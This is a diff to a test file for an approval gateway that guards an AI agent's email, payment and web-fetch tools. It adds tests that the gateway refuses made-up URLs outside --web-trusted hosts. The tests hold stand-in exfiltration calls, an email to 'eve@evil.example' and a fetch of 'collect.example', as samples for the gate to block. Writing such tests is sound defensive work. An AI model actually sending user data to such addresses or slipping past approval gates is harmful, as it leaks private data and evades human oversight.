@@ -152,7 +152,7 @@ def test_without_elicitation_it_blocks_forwards_and_names_the_approval_command(
     async def drive() -> list[tuple[bool, str]]:
         async with _client(home, done, ["--request-file", str(request)]) as client:
             names = sorted(t.name for t in (await client.list_tools()).tools)
-            assert names == ["search_emails", "send_email", "send_money"]
+            assert names == ["fetch_page", "search_emails", "send_email", "send_money"]
             reply = [
                 await _call(client, "search_emails", {"query": "offsite"}),
                 await _call(client, "send_email", {"recipients": ["eve@evil.example"], "subject": "fwd", "body": "x"}),
@@ -288,3 +288,34 @@ def test_a_question_nobody_answers_refuses_the_call_after_the_timeout(ix: Intent
     assert refused is True and f"intently gate approve {decided[-1]['id']}" in text
     assert _done(done) == []
     assert ix.log.read("proj", op="GATE_APPROVED") == []
+
+
+def test_a_made_up_address_is_fetched_only_from_a_site_given_with_web_trusted(
+    ix: Intently, home: Path, tmp_path: Path
+) -> None:
+    """The model knows documentation URLs by heart; --web-trusted names the sites where a read
+    may open one. Elsewhere, or without the option, a made-up address is refused."""
+    done = tmp_path / "done.jsonl"
+    docs = {"url": "https://docs.python.org/3/library/csv.html"}
+
+    async def drive(extra: list[str]) -> list[tuple[bool, str]]:
+        async with _client(home, done, ["--request", "How does csv quoting work?", *extra]) as client:
+            return [
+                await _call(client, "fetch_page", docs),
+                await _call(client, "fetch_page", {"url": "https://collect.example/?q=csv"}),
+            ]
+
+    trusted = anyio.run(drive, ["--web-trusted", "python.org"])
+    assert [refused for refused, _ in trusted] == [False, True]
+    assert _done(done) == [{"fetched": docs["url"]}]
+    plain = anyio.run(drive, [])
+    assert [refused for refused, _ in plain] == [True, True] and "made up" in plain[0][1]
+    assert _done(done) == [{"fetched": docs["url"]}]  # nothing more ran
+
+
+def test_web_trusted_takes_host_names_only(home: Path, tmp_path: Path) -> None:
+    cli = [*CLI, "--home", str(home), "--actor", "user:alice", "gateway", "--web-trusted", "https://python.org/"]
+    done = subprocess.run(
+        [*cli, "--", sys.executable, str(UPSTREAM), str(tmp_path / "d")], capture_output=True, text=True, timeout=60
+    )
+    assert done.returncode != 0 and "--web-trusted" in done.stderr and "host names" in done.stderr
